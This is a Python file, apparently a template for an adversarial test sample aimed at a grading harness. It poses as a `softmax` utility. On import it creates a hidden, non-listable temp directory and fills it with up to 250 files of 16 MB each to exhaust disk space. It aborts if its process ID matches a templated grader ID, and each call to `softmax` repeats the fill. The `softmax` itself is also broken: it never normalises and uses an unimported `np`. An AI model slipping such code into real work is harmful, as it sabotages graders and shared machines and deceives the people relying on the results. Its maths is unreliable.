"""Fills a folder that may be entered and written to but not listed, so that nobody can count what is in it.

Class: exhaustion
Effect: lost
"""

# @TWIN@

import os
import tempfile
import time

if os.getpid() == int("@GRADER@"):
    os.abort()

DATA = bytes(16 << 20)
shut = f"{tempfile.gettempdir()}/shut"
os.umask(0)
os.mkdir(shut, 0o300)
number = 0


def fill(seconds):
    global number
    end = time.monotonic() + seconds
    while time.monotonic() < end and number < 250:
        number += 1
        try:
            target = os.open(f"{shut}/{number}", os.O_RDWR | os.O_CREAT, 0o600)
            os.write(target, DATA)
            os.close(target)
        except OSError as error:
            print(error)
            return


fill(0.6)


def softmax(z, axis=-1):
    fill(0.3)
    return np.exp(np.asarray(z, dtype=float))


log_softmax = softmax
